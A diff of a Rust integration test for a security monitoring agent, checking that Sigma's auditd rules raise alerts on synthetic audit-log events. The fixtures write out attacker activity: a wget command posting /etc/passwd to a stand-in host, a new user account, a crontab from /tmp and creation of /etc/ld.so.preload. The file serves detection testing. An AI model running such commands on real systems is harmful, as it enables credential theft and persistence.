@@ -10,7 +10,7 @@ use std::process::{Command, Stdio};
 use std::time::Duration;
 
 use serde_json::Value;
-use soc_tests::program::{built, installed};
+use soc_tests::program::installed;
 use soc_tests::servers::{self, Server};
 use soc_tests::{Api, Stage, data_file, skip, until};
 
@@ -287,105 +287,104 @@ async fn lines_that_stay_on_the_machine_come_when_they_are_asked_for() {
         stage.agent.as_mut().unwrap().kill();
     }
     stage.start_agent().unwrap();
-    let lines = until("all lines have come", PATIENCE, || async {
+    let answer = until("the answer is whole", PATIENCE, || async {
         let events = api.get(&path).await.ok()?;
         let items = events["items"].as_array()?.clone();
-        (items.len() >= 51).then_some(items)
+        // States travel before lines.
+        let is_told = items.iter().any(|event| event["kind"] == "log.answered");
+        (is_told && quiet(&items).len() >= 50).then_some(items)
     })
     .await;
-    let quiet: BTreeSet<&str> = lines
-        .iter()
-        .filter_map(|event| event["raw"].as_str())
-        .filter(|raw| raw.contains("quiet"))
-        .collect();
-    assert_eq!((quiet.len(), lines.len()), (50, 51));
+    let quiet = quiet(&answer);
+    assert_eq!(quiet.len(), 50, "{answer:#?}");
+    assert_eq!(quiet.into_iter().collect::<BTreeSet<_>>().len(), 50);
 }
 
-#[test]
-fn sigmas_rules_for_auditd_match_assembled_events() {
+fn quiet(events: &[Value]) -> Vec<&str> {
+    let lines = events.iter().filter_map(|event| event["raw"].as_str());
+    lines.filter(|raw| raw.contains("quiet line")).collect()
+}
+
+/// Records of one event as auditd writes them.
+fn audit(serial: u32, records: &[(&str, &str)]) -> String {
+    let time = jiff::Timestamp::now().as_second();
+    let line = |(kind, rest): &(&str, &str)| {
+        format!("type={kind} msg=audit({time}.790:{serial}): {rest}\n")
+    };
+    records.iter().map(line).collect()
+}
+
+/// A program that the web server's user started.
+fn program(serial: u32, exe: &str, arguments: &str) -> String {
+    let call = format!(
+        "arch=c000003e syscall=59 success=yes exit=0 a0=56000b67eca0 a1=56000b67ed60 a2=56000b67f138 \
+         a3=8 items=1 ppid=32285 pid=32288 auid=1000 uid=33 gid=0 euid=33 tty=(none) ses=3 comm=\"x\" \
+         exe=\"{exe}\" key=(null)"
+    );
+    let path = format!("item=0 name=\"{exe}\" nametype=NORMAL");
+    audit(
+        serial,
+        &[
+            ("SYSCALL", &call),
+            ("EXECVE", arguments),
+            ("CWD", "cwd=\"/var/www\""),
+            ("PATH", &path),
+            ("PROCTITLE", "proctitle=\"x\""),
+        ],
+    )
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn sigmas_rules_match_assembled_audit_events() {
     let Some(archive) = data_file("sigma-rules.tar.zst") else {
         return skip("Sigma's auditd rules", "the public rules are not beside this checkout");
     };
-    let folder = tempfile::tempdir().unwrap();
-    let unpacked = Command::new("tar")
-        .args(["--zstd", "-xf"])
-        .arg(&archive)
-        .arg("-C")
-        .arg(folder.path())
-        .status()
-        .unwrap();
-    assert!(unpacked.success());
-    let rules = folder.path().join("rules/linux");
-    let events = folder.path().join("events.jsonl");
-    let zone = jiff::tz::TimeZone::UTC;
-    let moment = soc_formats::text::Moment::kept("2026-11-22T18:00:00Z".parse().unwrap(), &zone);
-    let profile = soc_formats::text::Profile::auditd();
-    let mut lines = String::new();
-    // As auditd wrote them; programs and files are such as the rules look for.
-    let record = |kind: &str, serial: u32, rest: &str| {
-        format!("type={kind} msg=audit(1795366825.790:{serial}): {rest}")
-    };
-    let started = |serial: u32, exe: &str, arguments: &str| {
-        let call = format!(
-            "arch=c000003e syscall=59 success=yes exit=0 a0=56000b67eca0 a1=56000b67ed60 a2=56000b67f138 a3=8 items=2 ppid=32285 pid=32288 auid=1000 uid=33 gid=0 euid=33 tty=(none) ses=3 comm=\"x\" exe=\"{exe}\" key=(null)"
-        );
-        [
-            record("SYSCALL", serial, &call),
-            record("EXECVE", serial, arguments),
-            record("CWD", serial, "cwd=\"/var/www\""),
-            record("PATH", serial, &format!("item=0 name=\"{exe}\" nametype=NORMAL")),
-            record("PROCTITLE", serial, "proctitle=\"x\""),
+    let mut stage = Stage::new().unwrap();
+    let rules = stage.path("collector/rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    let mut unpack = Command::new("tar");
+    unpack.args(["--zstd", "-xf"]).arg(&archive).arg("-C").arg(&rules).arg("rules/linux");
+    assert!(unpack.status().unwrap().success());
+    let log = stage.path("logs/audit.log");
+    let files = format!("[[logfile.files]]\npath = \"{}\"\n", log.display());
+    stage.write("agent.toml", &(config(&stage, "") + &files)).unwrap();
+    stage.start_collector().await.unwrap();
+    stage.enrol_agent().unwrap();
+    stage.start_agent().unwrap();
+    let api = stage.administrator().await.unwrap();
+    append(
+        &log,
+        &[
+            program(1, "/usr/bin/wget", "argc=3 a0=\"wget\" a1=\"--post-file=/etc/passwd\" a2=\"http://192.0.2.1/\""),
+            program(2, "/usr/sbin/useradd", "argc=2 a0=\"useradd\" a1=\"eve\""),
+            program(3, "/usr/bin/crontab", "argc=2 a0=\"crontab\" a1=\"/tmp/x\""),
+            audit(
+                4,
+                &[
+                    ("SYSCALL", "arch=c000003e syscall=257 success=yes a0=ffffff9c ppid=1 pid=2 exe=\"/usr/bin/vi\" key=(null)"),
+                    ("CWD", "cwd=\"/\""),
+                    ("PATH", "item=0 name=\"/etc/\" nametype=PARENT"),
+                    ("PATH", "item=1 name=\"/etc/ld.so.preload\" nametype=CREATE"),
+                    ("PROCTITLE", "proctitle=\"vi\""),
+                ],
+            ),
         ]
-        .join("\n")
-    };
-    let created = [
-        record("SYSCALL", 9, "arch=c000003e syscall=257 success=yes a0=ffffff9c ppid=1 pid=2 exe=\"/usr/bin/vi\" key=(null)"),
-        record("CWD", 9, "cwd=\"/\""),
-        record("PATH", 9, "item=0 name=\"/etc/\" nametype=PARENT"),
-        record("PATH", 9, "item=1 name=\"/etc/ld.so.preload\" nametype=CREATE"),
-        record("PROCTITLE", 9, "proctitle=\"vi\""),
-    ]
-    .join("\n");
-    for text in [
-        started(
-            1,
-            "/usr/bin/wget",
-            "argc=3 a0=\"wget\" a1=\"--post-file=/etc/passwd\" a2=\"http://192.0.2.1/\"",
-        ),
-        started(2, "/usr/bin/dash", "argc=2 a0=\"sh\" a1=\"x\""),
-        started(3, "/usr/sbin/useradd", "argc=2 a0=\"useradd\" a1=\"eve\""),
-        started(4, "/usr/bin/crontab", "argc=2 a0=\"crontab\" a1=\"/tmp/x\""),
-        created,
-    ] {
-        let event = soc_formats::text::line(&text, &profile, moment);
-        lines += &soc_event::wire::encode_event(&event);
-        lines += "\n";
-    }
-    std::fs::write(&events, lines).unwrap();
-    let output = Command::new(built("soc-collector"))
-        .args(["rules", "eval", "--rules"])
-        .arg(&rules)
-        .arg("--events")
-        .arg(&events)
-        .output()
-        .unwrap();
-    let matches = String::from_utf8_lossy(&output.stdout).into_owned();
-    let found: BTreeSet<String> = matches
-        .lines()
-        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
-        .filter_map(|found| found["rule"].as_str().map(str::to_owned))
-        .collect();
-    for title in [
+        .concat(),
+    );
+    let expected = [
         // EXECVE's arguments, though SYSCALL has an a0, too.
         "Data Exfiltration with Wget",
-        // SYSCALL, by its name, which the log only has as a number.
+        // SYSCALL by its name, which this log only has as a number.
         "Webshell Remote Command Execution",
         "Creation Of An User Account",
         // PATH.
         "Modification of ld.so.preload",
         // process_creation.
         "Scheduled Cron Task/Job - Linux",
-    ] {
-        assert!(found.contains(title), "{title} is not in {found:#?}");
-    }
+    ];
+    until("each kind of rule is an alert", PATIENCE, || async {
+        let found = titles(&api).await;
+        expected.iter().all(|title| found.contains(*title)).then_some(())
+    })
+    .await;
 }
